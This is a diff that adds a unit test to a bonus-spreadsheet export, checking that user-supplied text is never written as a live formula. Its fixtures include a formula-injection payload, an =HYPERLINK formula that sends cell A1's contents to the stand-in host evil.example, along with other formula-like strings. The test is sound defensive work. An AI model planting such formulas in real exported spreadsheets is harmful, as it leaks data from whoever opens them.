@@ -168,6 +168,25 @@ class TestBonusXlsx(BonusCase):
         self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
         self.assertEqual(ws.auto_filter.ref, "A%s:J%s" % (header_row, header_row + 2))
 
+    def test_strings_are_never_formulas(self):
+        evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+        header = {"title": evil, "company": evil, "scheme": "S", "team": evil, "period": "P",
+                  "currency": "EUR", "approvals": [(evil, evil, None)]}
+        rows = [{"name": evil, "login": "=1+1", "profile": "+SUM(A1)", "team": "-2",
+                 "kpis": [{"value": 1, "target": 1, "score": 100, "weight": 100}],
+                 "total_score": 100, "amount": 5}]
+        content = build_bonus_xlsx(header, [evil], rows)
+        ws = openpyxl.load_workbook(io.BytesIO(content)).active
+        given = {evil, "=1+1", "+SUM(A1)", "-2", evil + ": Value"}
+        cells = [c for row in ws.iter_rows() for c in row if c.value in given]
+        self.assertEqual(len(cells), 10)  # title, company, team, approval x2, KPI, employee
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s", cell.coordinate)
+        header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
+        employee = ws[header_row + 1]
+        self.assertEqual((employee[0].value, employee[0].data_type), (evil, "s"))
+        self.assertEqual((employee[1].value, employee[1].data_type), ("=1+1", "s"))
+
     def test_sheet_workbook_and_export_state(self):
         sheet = self.new_sheet()
         sheet.with_user(self.officer).action_compute()
